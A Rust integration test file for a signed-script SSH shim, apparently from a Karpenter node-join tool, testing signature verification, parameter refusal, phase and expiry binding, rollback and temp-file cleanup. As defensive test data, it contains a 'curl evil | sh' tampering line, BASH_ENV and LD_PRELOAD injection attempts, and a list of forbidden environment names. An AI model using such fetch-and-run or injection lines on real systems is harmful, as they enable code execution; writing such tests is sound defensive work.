//! Verified execution end to end on one machine: real `ssh-keygen` keys and signatures, the
//! controller-side checks, and `shim/kpssh-shim` invoked the way sshd's `ForceCommand` invokes it
//! (`SSH_ORIGINAL_COMMAND` set, envelope on stdin).

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use kpssh::profile::verified::envelope::sha256_hex;
use kpssh::profile::verified::sshsig::allowed_signers_line;
use kpssh::profile::verified::{
    Envelope, EnvelopeError, Expires, Params, Phase, PhaseRequest, PhaseSignatures, ProfileRef,
    SigError, TrustedSigners, exit, manifest_v2, prepare,
};

fn shim_path() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("shim/kpssh-shim")
}

struct Key {
    private: PathBuf,
    public: String,
}

fn keygen(dir: &Path, name: &str, kind: &str, bits: Option<&str>) -> Key {
    let private = dir.join(name);
    let mut cmd = Command::new("ssh-keygen");
    cmd.args(["-q", "-t", kind, "-N", "", "-C", name, "-f"])
        .arg(&private);
    if let Some(b) = bits {
        cmd.args(["-b", b]);
    }
    let out = cmd.output().expect("run ssh-keygen");
    assert!(out.status.success(), "ssh-keygen: {out:?}");
    let public = std::fs::read_to_string(private.with_extension("pub")).expect("pub");
    Key {
        private,
        public: public.trim().to_owned(),
    }
}

fn sign_ns(key: &Key, namespace: &str, msg: &[u8]) -> String {
    let mut child = Command::new("ssh-keygen")
        .args(["-Y", "sign", "-n", namespace, "-f"])
        .arg(&key.private)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn ssh-keygen");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(msg)
        .expect("write");
    let out = child.wait_with_output().expect("wait");
    assert!(out.status.success(), "sign: {out:?}");
    String::from_utf8(out.stdout).expect("utf8")
}

fn sign(key: &Key, msg: &[u8]) -> String {
    sign_ns(key, "kpssh", msg)
}

/// A host: a temp dir with allowed_signers, a state dir, a TMPDIR for the shim and a place for
/// scripts' side effects.
struct Host {
    dir: tempfile::TempDir,
    key: Key,
    rogue: Key,
    /// Pass the shim's explicit v1 opt-in (`--allow-v1`).
    allow_v1: bool,
}

impl Host {
    fn new() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let key = keygen(dir.path(), "signer", "ed25519", None);
        let rogue = keygen(dir.path(), "rogue", "ed25519", None);
        let line = allowed_signers_line(&key.public).expect("allowed line");
        std::fs::write(dir.path().join("allowed_signers"), format!("{line}\n")).expect("write");
        for d in ["tmp", "state", "out"] {
            std::fs::create_dir(dir.path().join(d)).expect("mkdir");
        }
        Host {
            dir,
            key,
            rogue,
            allow_v1: false,
        }
    }

    /// A host whose shim also accepts v1 envelopes (the explicit opt-in, `--allow-v1`).
    fn v1() -> Self {
        Host {
            allow_v1: true,
            ..Host::new()
        }
    }

    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }

    fn out(&self) -> PathBuf {
        self.path("out/ran")
    }

    fn ran(&self) -> bool {
        self.out().exists()
    }

    fn command(&self, original: &str) -> Command {
        let mut cmd = Command::new(shim_path());
        cmd.arg("--allowed-signers")
            .arg(self.path("allowed_signers"))
            .arg("--state-dir")
            .arg(self.path("state"))
            .args(self.allow_v1.then_some("--allow-v1"))
            .env("SSH_ORIGINAL_COMMAND", original)
            // Started by sudo for another user, the shim refuses command-line options.
            .env_remove("SUDO_UID")
            .env("TMPDIR", self.path("tmp"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        cmd
    }

    fn shim(&self, original: &str, stdin: &[u8]) -> Output {
        let mut child = self.command(original).spawn().expect("spawn shim");
        let mut input = child.stdin.take().expect("stdin");
        let data = stdin.to_vec();
        let writer = std::thread::spawn(move || {
            let _ = input.write_all(&data);
        });
        let out = child.wait_with_output().expect("wait shim");
        writer.join().expect("writer");
        out
    }

    fn tmp_is_empty(&self) -> bool {
        std::fs::read_dir(self.path("tmp"))
            .expect("read tmp")
            .next()
            .is_none()
    }

    /// Params naming this host's side-effect file.
    fn params(&self) -> Params {
        let mut p = Params::new();
        p.insert("KPSSH_OUT", self.out().to_string_lossy().into_owned())
            .expect("param");
        p
    }

    fn params_text(&self) -> String {
        format!("KPSSH_OUT={}\n", self.out().display())
    }
}

const SCRIPT: &str = "#!/usr/bin/env bash\nset -euo pipefail\nprintf '%s|%s|%s|%s\\n' \"${KPSSH_GREETING-none}\" \"${BASH_ENV-unset}\" \"${LD_PRELOAD-unset}\" \"$(umask)\" > \"$KPSSH_OUT\"\n";

fn code(out: &Output) -> i32 {
    out.status.code().unwrap_or(-1)
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// A hand-written envelope, so tests can send what the Rust builder refuses to build.
fn raw_v1(phase: &str, params: &str, sig: Option<&str>, script: &[u8]) -> Vec<u8> {
    let b = |s: &[u8]| {
        if s.is_empty() {
            "-".to_owned()
        } else {
            B64.encode(s)
        }
    };
    format!(
        "kpssh-envelope: 1\nphase: {phase}\nparams-b64: {}\nsig-b64: {}\nscript-b64: {}\n",
        b(params.as_bytes()),
        b(sig.unwrap_or("").as_bytes()),
        B64.encode(script)
    )
    .into_bytes()
}

fn future() -> Expires {
    Expires::from_timestamp(jiff::Timestamp::now() + jiff::SignedDuration::from_hours(24))
        .expect("expires")
}

fn v2_envelope(
    host: &Host,
    key: &Key,
    phase: Phase,
    profile: &str,
    expires: Expires,
    script: &str,
) -> Vec<u8> {
    let profile: ProfileRef = profile.parse().expect("profile");
    let sig = sign(
        key,
        manifest_v2(phase, &profile, script.as_bytes(), &expires).as_bytes(),
    );
    Envelope::v2(
        phase,
        profile,
        expires,
        host.params(),
        &sig,
        script.as_bytes(),
    )
    .expect("envelope")
    .encode()
}

// ---------------------------------------------------------------------------------------------
// Controller-side verification with ssh-keygen-made keys and signatures.

#[test]
fn controller_verifies_ssh_keygen_signatures_for_every_key_type() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rogue = keygen(dir.path(), "rogue", "ed25519", None);
    let msg = SCRIPT.as_bytes();
    for (name, kind, bits, alg) in [
        ("ed", "ed25519", None, "ssh-ed25519"),
        ("p256", "ecdsa", Some("256"), "ecdsa-sha2-nistp256"),
        ("p384", "ecdsa", Some("384"), "ecdsa-sha2-nistp384"),
        ("p521", "ecdsa", Some("521"), "ecdsa-sha2-nistp521"),
        ("rsa", "rsa", Some("2048"), "ssh-rsa"),
    ] {
        let key = keygen(dir.path(), name, kind, bits);
        let trusted =
            TrustedSigners::parse(&[rogue.public.as_str(), key.public.as_str()]).expect("trusted");
        let sig = sign(&key, msg);
        let who = trusted.verify(&sig, msg).expect(name);
        assert_eq!(who.algorithm, alg);
        assert_eq!(who.index, 1);
        assert!(who.fingerprint.starts_with("SHA256:"));

        let mut tampered = msg.to_vec();
        tampered.extend_from_slice(b"curl evil | sh\n");
        assert_eq!(
            trusted.verify(&sig, &tampered),
            Err(SigError::BadSignature),
            "{name} tampered"
        );
        let only_rogue = TrustedSigners::parse(&[rogue.public.as_str()]).expect("trusted");
        assert!(
            matches!(
                only_rogue.verify(&sig, msg),
                Err(SigError::UntrustedSigner { .. })
            ),
            "{name} untrusted"
        );
        let other_ns = sign_ns(&key, "file", msg);
        assert!(
            matches!(
                trusted.verify(&other_ns, msg),
                Err(SigError::Namespace { .. })
            ),
            "{name} namespace"
        );
    }
}

/// ssh-keygen never makes SHA-1 RSA signatures any more; build one with ssh-key from an
/// ssh-keygen RSA key and check both sides refuse it.
#[test]
fn sha1_rsa_signatures_are_refused_by_controller_and_shim() {
    use russh::keys::ssh_key::{HashAlg, LineEnding, PrivateKey, SshSig};
    use signature::Signer as _;
    let host = Host::v1();
    let rsa = keygen(host.dir.path(), "rsa", "rsa", Some("2048"));
    let private = PrivateKey::read_openssh_file(&rsa.private).expect("read key");
    let keypair = private.key_data().rsa().expect("rsa");
    let msg = SCRIPT.as_bytes();
    let signed = SshSig::signed_data("kpssh", HashAlg::Sha512, msg).expect("signed data");
    let raw = (keypair, None::<HashAlg>)
        .try_sign(&signed)
        .expect("sha1 sign");
    let sig = SshSig::new(
        private.public_key().key_data().clone(),
        "kpssh",
        HashAlg::Sha512,
        raw,
    )
    .expect("sshsig")
    .to_pem(LineEnding::LF)
    .expect("pem");
    let trusted = TrustedSigners::parse(&[rsa.public.as_str()]).expect("trusted");
    assert_eq!(trusted.verify(&sig, msg), Err(SigError::Sha1Rsa));

    let line = allowed_signers_line(&rsa.public).expect("line");
    std::fs::write(host.path("allowed_signers"), format!("{line}\n")).expect("write");
    let out = host.shim(
        "run join",
        &raw_v1("join", &host.params_text(), Some(&sig), msg),
    );
    assert_eq!(code(&out), exit::SIGNATURE, "{}", stderr(&out));
    assert!(!host.ran());
    // The same key with a proper rsa-sha2-512 signature is fine on both sides.
    let good = sign(&rsa, msg);
    trusted.verify(&good, msg).expect("sha512 rsa");
    let out = host.shim(
        "run join",
        &raw_v1("join", &host.params_text(), Some(&good), msg),
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
}

// ---------------------------------------------------------------------------------------------
// The shim.

/// The shim's probe sees a kubelet run by the shipped profiles' no-systemd path (a loop whose
/// pid file is `/run/kpssh/kubelet.pid`): run in a mount namespace whose `/run/kpssh` is a
/// fresh tmpfs, so the machine's own is never touched (root, as the E11 tier).
#[test]
fn probe_sees_a_kubelet_loop_without_systemd() {
    std::fs::create_dir_all("/run/kpssh").expect("mkdir /run/kpssh");
    let host = Host::new();
    let shim = format!(
        "{} --allowed-signers {} --state-dir {}",
        shim_path().display(),
        host.path("allowed_signers").display(),
        host.path("state").display()
    );
    for (setup, want) in [
        (
            "sleep 30 & loop=$!; echo $loop > /run/kpssh/kubelet.pid",
            "active",
        ),
        (
            "sh -c 'exit 0' & loop=$!; wait $loop; echo $loop > /run/kpssh/kubelet.pid",
            "",
        ),
    ] {
        let inner = format!(
            "set -e; mount -t tmpfs kpssh-shim-test /run/kpssh; {setup}; \
             SSH_ORIGINAL_COMMAND=probe {shim}; kill $loop 2>/dev/null || true"
        );
        let out = Command::new("unshare")
            .args(["-m", "sh", "-c", &inner])
            .env_remove("SUDO_UID")
            .env("TMPDIR", host.path("tmp"))
            .output()
            .expect("run unshare");
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        let text = String::from_utf8(out.stdout).expect("utf8");
        let active = text.lines().any(|l| l == "kubelet=active");
        assert_eq!(active, want == "active", "{setup}: {text}");
    }
}

#[test]
fn probe_prints_the_shared_contract() {
    let host = Host::new();
    for cmd in ["probe", "/opt/kpssh/kpssh-shim probe"] {
        let out = host.shim(cmd, b"");
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        let text = String::from_utf8(out.stdout).expect("utf8");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 5, "{text}");
        assert_eq!(lines[0], "kpssh-probe=1");
        let num = |l: &str, k: &str| {
            l.strip_prefix(k)
                .is_some_and(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()))
        };
        assert!(num(lines[1], "cpu="), "{text}");
        assert!(num(lines[2], "memory_kib="), "{text}");
        assert!(
            lines[3].starts_with("arch=") && lines[3].len() > 5,
            "{text}"
        );
        assert!(
            lines[4].starts_with("kubelet=") && lines[4].len() > 8,
            "{text}"
        );
    }
}

#[test]
fn signed_v1_script_runs_with_clean_environment_and_leaves_no_temp_files() {
    let host = Host::v1();
    let sig = sign(&host.key, SCRIPT.as_bytes());
    let mut params = host.params();
    params
        .insert("KPSSH_GREETING", "hello 'world' $HOME `x`")
        .expect("param");
    let env = Envelope::v1(Phase::Join, params, &sig, SCRIPT.as_bytes()).expect("envelope");
    let mut cmd = host.command("/opt/kpssh/kpssh-shim run join");
    cmd.env("BASH_ENV", host.path("evil"))
        .env("LD_PRELOAD", "/nonexistent.so");
    std::fs::write(host.path("evil"), "echo pwned > /dev/stderr\n").expect("write");
    let mut child = cmd.spawn().expect("spawn");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&env.encode())
        .expect("write");
    let out = child.wait_with_output().expect("wait");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(!stderr(&out).contains("pwned"));
    let seen = std::fs::read_to_string(host.out()).expect("side effect");
    assert_eq!(seen, "hello 'world' $HOME `x`|unset|unset|0022\n");
    assert!(host.tmp_is_empty(), "temp files left behind");
}

#[test]
fn signed_v2_script_runs() {
    let host = Host::new();
    let env = v2_envelope(
        &host,
        &host.key,
        Phase::Leave,
        "tls-bootstrap@3",
        future(),
        SCRIPT,
    );
    let out = host.shim("run leave tls-bootstrap@3", &env);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(host.ran());
    assert!(host.tmp_is_empty());
}

#[test]
fn tampered_rogue_and_unsigned_scripts_never_run() {
    let host = Host::v1();
    let sig = sign(&host.key, SCRIPT.as_bytes());
    let tampered = format!("{SCRIPT}touch /tmp/owned\n");
    let rogue_sig = sign(&host.rogue, SCRIPT.as_bytes());
    let cases: [(&str, Vec<u8>); 3] = [
        (
            "tampered",
            raw_v1("join", &host.params_text(), Some(&sig), tampered.as_bytes()),
        ),
        (
            "rogue",
            raw_v1(
                "join",
                &host.params_text(),
                Some(&rogue_sig),
                SCRIPT.as_bytes(),
            ),
        ),
        (
            "unsigned",
            raw_v1("join", &host.params_text(), None, SCRIPT.as_bytes()),
        ),
    ];
    for (what, env) in cases {
        let out = host.shim("run join", &env);
        assert_eq!(code(&out), exit::SIGNATURE, "{what}: {}", stderr(&out));
        assert!(!host.ran(), "{what}: script ran");
        assert!(host.tmp_is_empty(), "{what}: temp files left");
    }
}

#[test]
fn bad_parameters_are_refused_before_anything_runs() {
    let host = Host::v1();
    let sig = sign(&host.key, SCRIPT.as_bytes());
    let base = host.params_text();
    for extra in [
        "BASH_ENV=/tmp/evil\n",
        "LD_PRELOAD=/tmp/evil.so\n",
        "PATH=/tmp/evil\n",
        "IFS=x\n",
        "ENV=/tmp/evil\n",
        "kpssh_lower=x\n",
        "KPSSH_=x\n",
        "KPSSH_A-B=x\n",
        "KPSSH_MULTI=line one\nline two\n",
        "KPSSH_CR=a\rb\n",
        "KPSSH_NUL=a\0b\n",
        "KPSSH_OUT=again\n",
        "KPSSH_NO_NEWLINE=x",
    ] {
        let env = raw_v1(
            "join",
            &format!("{base}{extra}"),
            Some(&sig),
            SCRIPT.as_bytes(),
        );
        let out = host.shim("run join", &env);
        assert_eq!(code(&out), exit::PARAMETER, "{extra:?}: {}", stderr(&out));
        assert!(!host.ran(), "{extra:?}: script ran");
        // The builder refuses the same.
        assert!(
            Envelope::parse(&env).is_err_and(|e| e.exit_code() == exit::PARAMETER),
            "{extra:?}"
        );
    }
    assert!(host.tmp_is_empty());
}

#[test]
fn phases_are_checked() {
    let host = Host::v1();
    let sig = sign(&host.key, SCRIPT.as_bytes());
    let p = host.params_text();
    let unknown = host.shim(
        "run join",
        &raw_v1("reboot", &p, Some(&sig), SCRIPT.as_bytes()),
    );
    assert_eq!(code(&unknown), exit::PHASE, "{}", stderr(&unknown));
    let requested_unknown = host.shim(
        "run reboot",
        &raw_v1("join", &p, Some(&sig), SCRIPT.as_bytes()),
    );
    assert_eq!(code(&requested_unknown), exit::PHASE);
    let mismatch = host.shim(
        "run leave",
        &raw_v1("join", &p, Some(&sig), SCRIPT.as_bytes()),
    );
    assert_eq!(code(&mismatch), exit::PHASE, "{}", stderr(&mismatch));
    let garbage = host.shim("run join", b"hello\n");
    assert_eq!(code(&garbage), exit::ENVELOPE);
    let empty = host.shim("run join", b"");
    assert_eq!(code(&empty), exit::ENVELOPE);
    let mut huge = raw_v1("join", &p, Some(&sig), SCRIPT.as_bytes());
    huge.extend(std::iter::repeat_n(b'#', 1024 * 1024));
    let huge = host.shim("run join", &huge);
    assert_eq!(code(&huge), exit::ENVELOPE, "{}", stderr(&huge));
    let crlf = String::from_utf8(raw_v1("join", &p, Some(&sig), SCRIPT.as_bytes()))
        .expect("utf8")
        .replace('\n', "\r\n");
    let crlf = host.shim("run join", crlf.as_bytes());
    assert_eq!(code(&crlf), exit::ENVELOPE, "{}", stderr(&crlf));
    let bad_cmd = host.shim(
        "kpssh-shim --allowed-signers /tmp/x run join",
        &raw_v1("join", &p, Some(&sig), SCRIPT.as_bytes()),
    );
    assert_eq!(code(&bad_cmd), exit::ENVELOPE, "{}", stderr(&bad_cmd));
    assert!(!host.ran());
}

#[test]
fn v2_binds_phase_version_and_expiry() {
    let host = Host::v1();
    let exp = future();
    // A leave script, its manifest signature, replayed with the header rewritten to join:
    // the manifest no longer matches.
    let profile: ProfileRef = "p@2".parse().expect("profile");
    let sig = sign(
        &host.key,
        manifest_v2(Phase::Leave, &profile, SCRIPT.as_bytes(), &exp).as_bytes(),
    );
    let forged = Envelope::v2(
        Phase::Join,
        profile.clone(),
        exp,
        host.params(),
        &sig,
        SCRIPT.as_bytes(),
    )
    .expect("env")
    .encode();
    let out = host.shim("run join p@2", &forged);
    assert_eq!(code(&out), exit::SIGNATURE, "{}", stderr(&out));
    // Honest header but another phase requested.
    let honest = v2_envelope(&host, &host.key, Phase::Leave, "p@2", exp, SCRIPT);
    let out = host.shim("run join p@2", &honest);
    assert_eq!(code(&out), exit::PHASE, "{}", stderr(&out));
    // Old version sent when p@3 is requested.
    let out = host.shim("run leave p@3", &honest);
    assert_eq!(code(&out), exit::EXPIRED, "{}", stderr(&out));
    // Expired.
    let past: Expires = "2020-01-01T00:00:00Z".parse().expect("past");
    let expired = v2_envelope(&host, &host.key, Phase::Leave, "p@2", past, SCRIPT);
    let out = host.shim("run leave p@2", &expired);
    assert_eq!(code(&out), exit::EXPIRED, "{}", stderr(&out));
    // A v1 envelope where a profile-bound run was requested (downgrade).
    let v1 = raw_v1(
        "leave",
        &host.params_text(),
        Some(&sign(&host.key, SCRIPT.as_bytes())),
        SCRIPT.as_bytes(),
    );
    let out = host.shim("run leave p@2", &v1);
    assert_eq!(code(&out), exit::EXPIRED, "{}", stderr(&out));
    assert!(!host.ran());

    // --require-v2 refuses v1 envelopes outright, even when they would verify.
    let mut cmd = host.command("run leave");
    cmd.arg("--require-v2");
    let mut child = cmd.spawn().expect("spawn");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&v1)
        .expect("write");
    let out = child.wait_with_output().expect("wait");
    assert_eq!(code(&out), exit::EXPIRED, "{}", stderr(&out));
    assert!(!host.ran());

    // Rollback: once p@3 (signed later, expiring later) ran, p@2 is refused even unrequested.
    let later = Expires::from_timestamp(exp.timestamp() + jiff::SignedDuration::from_hours(1))
        .expect("later");
    let v3 = v2_envelope(&host, &host.key, Phase::Leave, "p@3", later, SCRIPT);
    let out = host.shim("run leave p@3", &v3);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    std::fs::remove_file(host.out()).expect("rm");
    let out = host.shim("run leave", &honest);
    assert_eq!(code(&out), exit::EXPIRED, "{}", stderr(&out));
    assert!(!host.ran());
    assert!(host.tmp_is_empty());
}

#[test]
fn failing_script_maps_to_10_and_reports_its_status() {
    let host = Host::v1();
    let script = "#!/usr/bin/env bash\nset -euo pipefail\nexit 7\n";
    let sig = sign(&host.key, script.as_bytes());
    let out = host.shim(
        "run install",
        &raw_v1("install", "", Some(&sig), script.as_bytes()),
    );
    assert_eq!(code(&out), exit::SCRIPT_FAILED);
    assert!(stderr(&out).contains("status 7"), "{}", stderr(&out));
    assert!(host.tmp_is_empty());
}

#[test]
fn sigterm_stops_the_script_and_removes_temp_files() {
    let host = Host::v1();
    let script = "#!/usr/bin/env bash\nset -euo pipefail\necho started > \"$KPSSH_OUT\"\nsleep 30\necho finished >> \"$KPSSH_OUT\"\n";
    let sig = sign(&host.key, script.as_bytes());
    let env = raw_v1("join", &host.params_text(), Some(&sig), script.as_bytes());
    let mut child = host.command("run join").spawn().expect("spawn");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&env)
        .expect("write");
    let deadline = Instant::now() + Duration::from_secs(20);
    while !host.ran() {
        assert!(Instant::now() < deadline, "script never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        !host.tmp_is_empty(),
        "temp files should exist while running"
    );
    let kill = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .expect("kill");
    assert!(kill.success());
    let started = Instant::now();
    let out = child.wait_with_output().expect("wait");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "shim did not stop promptly"
    );
    assert_eq!(out.status.code(), Some(143), "{}", stderr(&out));
    assert!(host.tmp_is_empty(), "temp files left after SIGTERM");
    std::thread::sleep(Duration::from_millis(200));
    let seen = std::fs::read_to_string(host.out()).expect("out");
    assert_eq!(seen, "started\n", "script kept running after SIGTERM");
}

// ---------------------------------------------------------------------------------------------
// Controller builder → shim, and `kpssh sign`.

#[test]
fn prepared_runs_are_accepted_by_the_shim() {
    // The shim allows v1 here, so that what the controller chooses is what runs.
    let host = Host::v1();
    let trusted = TrustedSigners::parse(&[host.key.public.as_str()]).expect("trusted");
    let exp = future();
    let profile: ProfileRef = "tls-bootstrap@1".parse().expect("profile");
    let v2_sig = sign(
        &host.key,
        manifest_v2(Phase::Join, &profile, SCRIPT.as_bytes(), &exp).as_bytes(),
    );
    let v1_sig = sign(&host.key, SCRIPT.as_bytes());
    let both = PhaseSignatures {
        v1: Some(v1_sig.clone()),
        v2: Some((exp.to_string(), v2_sig.clone())),
    };
    let v1_only = PhaseSignatures {
        v1: Some(v1_sig.clone()),
        v2: None,
    };
    // (signatures, the controller's --allow-v1-signatures, the envelope version it must send)
    for (sigs, allow_v1, version) in [
        (both.clone(), false, 2),
        // v2 wins even where v1 is allowed.
        (both.clone(), true, 2),
        // v1 only with the explicit opt-in.
        (v1_only.clone(), true, 1),
    ] {
        let run = prepare(
            &trusted,
            PhaseRequest {
                phase: Phase::Join,
                profile: profile.clone(),
                script: SCRIPT,
                signatures: sigs,
                params: host.params(),
                shim_command: "/opt/kpssh/kpssh-shim",
                allow_v1,
                timeout: None,
            },
            jiff::Timestamp::now(),
        )
        .expect("prepare");
        assert_eq!(run.version, version, "allow_v1 {allow_v1}");
        let out = host.shim(&run.command, &run.stdin);
        assert_eq!(code(&out), 0, "{}: {}", run.command, stderr(&out));
        assert_eq!(
            stderr(&out).contains("warning: running a v1 envelope"),
            version == 1,
            "the shim warns about v1 runs only: {}",
            stderr(&out)
        );
        assert!(host.ran());
        std::fs::remove_file(host.out()).expect("rm");
    }
    // Without the opt-in, a phase with only a v1 signature is refused before any connection,
    // naming the fix; and an expired v2 signature never falls back to a valid v1 one.
    let request = |sigs, allow_v1| PhaseRequest {
        phase: Phase::Join,
        profile: profile.clone(),
        script: SCRIPT,
        signatures: sigs,
        params: host.params(),
        shim_command: "/opt/kpssh/kpssh-shim",
        allow_v1,
        timeout: None,
    };
    let err = prepare(&trusted, request(v1_only, false), jiff::Timestamp::now())
        .expect_err("v1 without the opt-in");
    assert!(matches!(err, EnvelopeError::V1Refused(_)), "{err}");
    let text = err.to_string();
    assert!(
        text.contains("join of tls-bootstrap@1")
            && text.contains("kpssh sign")
            && text.contains("--allow-v1-signatures"),
        "{text}"
    );
    assert_eq!(err.exit_code(), exit::EXPIRED);
    let much_later = exp.timestamp() + jiff::SignedDuration::from_secs(1);
    let err = prepare(&trusted, request(both, true), much_later).expect_err("expired v2");
    assert!(matches!(err, EnvelopeError::Expired(_)), "{err}");
    // E8: unsigned or rogue-signed profiles are refused before any connection.
    let rogue_trusted = TrustedSigners::parse(&[host.rogue.public.as_str()]).expect("trusted");
    let req = |sigs| PhaseRequest {
        phase: Phase::Join,
        profile: profile.clone(),
        script: SCRIPT,
        signatures: sigs,
        params: host.params(),
        shim_command: "/opt/kpssh/kpssh-shim",
        allow_v1: true,
        timeout: None,
    };
    let err = prepare(
        &trusted,
        req(PhaseSignatures::default()),
        jiff::Timestamp::now(),
    )
    .expect_err("unsigned");
    assert_eq!(err, EnvelopeError::Signature(SigError::Missing));
    let err = prepare(
        &rogue_trusted,
        req(PhaseSignatures {
            v1: Some(v1_sig),
            v2: None,
        }),
        jiff::Timestamp::now(),
    )
    .expect_err("rogue");
    assert!(matches!(
        err,
        EnvelopeError::Signature(SigError::UntrustedSigner { .. })
    ));
    let much_later = exp.timestamp() + jiff::SignedDuration::from_secs(1);
    let err = prepare(
        &trusted,
        req(PhaseSignatures {
            v1: None,
            v2: Some((exp.to_string(), v2_sig)),
        }),
        much_later,
    )
    .expect_err("expired");
    assert!(matches!(err, EnvelopeError::Expired(_)));
}

#[test]
fn sign_cli_signs_a_profile_and_keeps_unknown_fields() {
    use kpssh::cli::sign::{SignArgs, run};
    let host = Host::new();
    let yaml = format!(
        "apiVersion: karpenter.dklesev.github.io/v1beta1\nkind: SSHJoinProfile\nmetadata:\n  name: demo\n  labels:\n    team: infra\nspec:\n  version: \"7\"\n  x-custom: keep-me\n  timeouts:\n    join: 5m\n  scripts:\n    install: |\n      #!/usr/bin/env bash\n      set -euo pipefail\n      true\n    join: |\n{}    leave: |\n      #!/usr/bin/env bash\n      set -euo pipefail\n      true\n",
        SCRIPT
            .lines()
            .map(|l| format!("      {l}\n"))
            .collect::<String>()
    );
    let input = host.path("profile.yaml");
    std::fs::write(&input, &yaml).expect("write");
    let output = host.path("signed.yaml");
    let rc = run(SignArgs {
        key: host.key.private.clone(),
        expires: "1h".into(),
        expires_at: None,
        v1: false,
        out: Some(output.clone()),
        ssh_keygen: "ssh-keygen".into(),
        profile: input.clone(),
    })
    .expect("sign");
    assert_eq!(rc, 0);
    assert_eq!(
        std::fs::read_to_string(&input).expect("input"),
        yaml,
        "input untouched"
    );
    let doc: serde_yaml::Value =
        serde_yaml::from_str(&std::fs::read_to_string(&output).expect("out")).expect("yaml");
    assert_eq!(doc["spec"]["x-custom"].as_str(), Some("keep-me"));
    assert_eq!(doc["metadata"]["labels"]["team"].as_str(), Some("infra"));
    assert_eq!(doc["spec"]["timeouts"]["join"].as_str(), Some("5m"));
    let join = doc["spec"]["scripts"]["join"].as_str().expect("join");
    assert_eq!(join, SCRIPT);
    // v2 only by default: no v1 signature is written.
    assert!(doc["spec"]["signatures"].is_null(), "{:?}", doc["spec"]);
    let trusted = TrustedSigners::parse(&[host.key.public.as_str()]).expect("trusted");
    let expires = doc["spec"]["signaturesV2"]["expires"]
        .as_str()
        .expect("expires");
    let exp: Expires = expires.parse().expect("expires format");
    let now = jiff::Timestamp::now();
    assert!(exp.timestamp() > now + jiff::SignedDuration::from_mins(55));
    assert!(exp.timestamp() < now + jiff::SignedDuration::from_mins(65));
    for phase in ["install", "join", "leave"] {
        let script = doc["spec"]["scripts"][phase].as_str().expect("script");
        let v2 = doc["spec"]["signaturesV2"][phase].as_str().expect("v2");
        let manifest = manifest_v2(
            phase.parse().expect("phase"),
            &"demo@7".parse().expect("profile"),
            script.as_bytes(),
            &exp,
        );
        assert!(manifest.contains(&sha256_hex(script.as_bytes())));
        trusted
            .verify(v2, manifest.as_bytes())
            .expect("v2 verifies");
    }
    // The signed join runs through the shim.
    let run_req = prepare(
        &trusted,
        PhaseRequest {
            phase: Phase::Join,
            profile: "demo@7".parse().expect("profile"),
            script: join,
            signatures: PhaseSignatures {
                v1: doc["spec"]["signatures"]["join"]
                    .as_str()
                    .map(str::to_owned),
                v2: Some((
                    expires.to_owned(),
                    doc["spec"]["signaturesV2"]["join"]
                        .as_str()
                        .expect("v2")
                        .to_owned(),
                )),
            },
            params: host.params(),
            shim_command: "kpssh-shim",
            allow_v1: false,
            timeout: None,
        },
        now,
    )
    .expect("prepare");
    let out = host.shim(&run_req.command, &run_req.stdin);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(host.ran());

    // --v1 adds v1 signatures (and --expires-at fixes the v2 expiry); signing again without
    // --v1 removes them, so a stale v1 signature cannot be replayed later.
    let rc = run(SignArgs {
        key: host.key.private.clone(),
        expires: "1h".into(),
        expires_at: Some("2031-02-03T04:05:06Z".into()),
        v1: true,
        out: None,
        ssh_keygen: "ssh-keygen".into(),
        profile: output.clone(),
    })
    .expect("sign --v1");
    assert_eq!(rc, 0);
    let with_v1: serde_yaml::Value =
        serde_yaml::from_str(&std::fs::read_to_string(&output).expect("out")).expect("yaml");
    assert_eq!(
        with_v1["spec"]["signaturesV2"]["expires"].as_str(),
        Some("2031-02-03T04:05:06Z")
    );
    for phase in ["install", "join", "leave"] {
        let script = with_v1["spec"]["scripts"][phase].as_str().expect("script");
        let v1 = with_v1["spec"]["signatures"][phase].as_str().expect("v1");
        trusted.verify(v1, script.as_bytes()).expect("v1 verifies");
    }
    let rc = run(SignArgs {
        key: host.key.private.clone(),
        expires: "1h".into(),
        expires_at: None,
        v1: false,
        out: None,
        ssh_keygen: "ssh-keygen".into(),
        profile: output.clone(),
    })
    .expect("sign again");
    assert_eq!(rc, 0);
    let resigned: serde_yaml::Value =
        serde_yaml::from_str(&std::fs::read_to_string(&output).expect("out")).expect("yaml");
    assert!(
        resigned["spec"]["signatures"].is_null(),
        "{:?}",
        resigned["spec"]
    );

    // Templated scripts are refused, and the file is left alone.
    let templated = yaml.replace("true\n    join", "echo {{ .Vars.x }}\n    join");
    assert_ne!(templated, yaml);
    std::fs::write(&input, &templated).expect("write");
    let err = run(SignArgs {
        key: host.key.private.clone(),
        expires: "720h".into(),
        expires_at: None,
        v1: false,
        out: None,
        ssh_keygen: "ssh-keygen".into(),
        profile: input.clone(),
    })
    .expect_err("templated");
    assert!(err.to_string().contains("template"), "{err}");
    assert_eq!(std::fs::read_to_string(&input).expect("input"), templated);
}

// ---------------------------------------------------------------------------------------------
